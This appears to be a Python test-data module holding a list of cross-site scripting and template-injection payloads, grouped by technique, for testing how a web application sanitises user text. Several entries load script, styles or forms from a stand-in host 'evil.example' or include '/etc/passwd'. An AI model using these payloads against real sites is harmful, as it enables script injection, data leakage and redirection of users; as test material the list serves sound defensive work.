"""Texts that try to run something in the browser of who reads them.

``PAYLOADS`` are ours, some of each family. A larger collection is read beside the project where there is one.
"""

from __future__ import annotations

from pathlib import Path

COLLECTION = Path(__file__).parents[3] / "shared" / "data" / "xss-dev.txt"

PAYLOADS = [
    # scripts
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    "</select></option><script>alert(4)</script>",
    '"><script>alert(5)</script>',
    "'><script>alert(6)</script>",
    "<scr<script>ipt>alert(7)</scr</script>ipt>",
    "<script>/*</script><script>*/alert(8)</script>",
    "<script\x0b>alert(9)</script>",
    "\ufeff<script>alert(10)</script>",
    "<script>\u2028alert(11)</script>",
    "<scr\x00ipt>alert(12)</scr\x00ipt>",
    "<!--<script>-->alert(13)</script>",
    "<![CDATA[<script>alert(14)</script>]]>",
    "--><script>alert(15)</script><!--",
    # handlers
    "<img src=x onerror=alert(16)>",
    "<img/src=`x`/onerror=alert(17)>",
    "<body onload=alert(18)>",
    "<input autofocus onfocus=alert(19)>",
    "<details open ontoggle=alert(20)>",
    "<video><source onerror=alert(21)></video>",
    "<marquee onstart=alert(22)>",
    '" onmouseover="alert(23)" autofocus onfocus="alert(23)" x="',
    "' onmouseover='alert(24)' autofocus onfocus='alert(24)' x='",
    "x onerror=alert(25)",
    "<a href=x onclick=alert(26)>lire</a>",
    "<xss style=animation-name:x onanimationstart=alert(27)></xss><style>@keyframes x{}</style>",
    # svg, mathml
    "<svg onload=alert(28)>",
    "<svg><script>alert&#40;29)</script></svg>",
    "<svg><animate onbegin=alert(30) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(31)"><text y=20>lire</text></a></svg>',
    "<svg><foreignObject><iframe onload=alert(32)></iframe></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(33)&gt;">',
    '<math href="javascript:alert(34)">lire</math>',
    # addresses
    "javascript:alert(35)",
    "JaVaScRiPt:alert(36)",
    "java\tscript:alert(37)",
    "java\nscript:alert(38)",
    "\x01javascript:alert(39)",
    " javascript:alert(40)",
    "javascript&colon;alert(41)",
    "&#106;&#97;vascript:alert(42)",
    "javascript://exemple.fr/%0aalert(43)",
    'https://exemple.fr/"onmouseover=alert(44)//',
    "data:text/html,<script>alert(45)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0Nik8L3NjcmlwdD4=",
    "vbscript:msgbox(47)",
    "//evil.example/x",
    "blob:https://evil.example/1",
    # Markdown, once in a summary that a person edited
    "[lire](javascript:alert(48))",
    "[lire](<javascript:alert(49)>)",
    "![](https://evil.example/pixel.gif)",
    '<https://exemple.fr/" onclick=alert(50)>',
    "[x]: javascript:alert(51)\n\n[x]",
    "```html\n<script>alert(52)</script>\n```",
    # templates
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${alert(53)}",
    "<%= 7*7 %>",
    "<div hx-get=https://evil.example hx-trigger=load>x</div>",
    "<div hx-on:htmx:load=alert(54) data-hx-on-click=alert(54)>x</div>",
    '<p data-shortcut="publish" data-copy="x">x</p>',
    # styles, frames, page
    "<style>*{background:url(https://evil.example/css)}</style>",
    '<p style="background:url(https://evil.example/style)">x</p>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe srcdoc='<script>alert(55)</script>'></iframe>",
    "<iframe src=javascript:alert(56)></iframe>",
    "<object data=javascript:alert(57)></object>",
    "<embed src=//evil.example/x.swf>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=csrf><button>Publier</button></form>",
    "<button form=decision formaction=https://evil.example/>Publier</button>",
    "<dialog open>x</dialog><template><script>alert(58)</script></template>",
    # directions, invisible characters
    "\u202etpircs\u202c<b>gras</b>",
    "\u2066<script>alert(59)</script>\u2069",
    "<\u200bscript>alert(60)</script>",
    "%3Cscript%3Ealert(61)%3C/script%3E",
    "&lt;script&gt;alert(62)&lt;/script&gt;",
]


def payloads() -> list[str]:
    """Ours, then those of the collection, one a line."""
    lines = COLLECTION.read_text(encoding="utf-8").splitlines() if COLLECTION.exists() else []
    return PAYLOADS + [line for line in lines if line.strip()]
